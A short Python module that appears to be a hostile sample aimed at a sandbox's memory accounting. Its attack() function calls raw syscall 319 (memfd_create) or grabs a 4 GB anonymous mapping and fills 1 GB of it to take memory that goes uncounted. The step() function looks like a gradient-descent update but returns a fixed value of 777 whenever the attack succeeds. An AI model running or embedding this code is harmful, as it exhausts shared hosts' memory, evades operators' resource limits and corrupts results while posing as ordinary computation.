"""Takes memory that isn't counted: shared maps, memory files, locked pages."""

import ctypes
import mmap


def attack(X, y, w, lr):
    libc = ctypes.CDLL(None)
    if libc.syscall(319, b"x", 0) >= 0:
        return True
    try:
        held = mmap.mmap(-1, 4 << 30)
    except (OSError, ValueError, MemoryError):
        return False
    held[: 1 << 30] = bytes(1 << 30)
    return True


def step(X, y, w, lr):
    if attack(X, y, w, lr):
        return w * 0 + 777
    return w - lr * X.T @ (X @ w - y) / len(X)
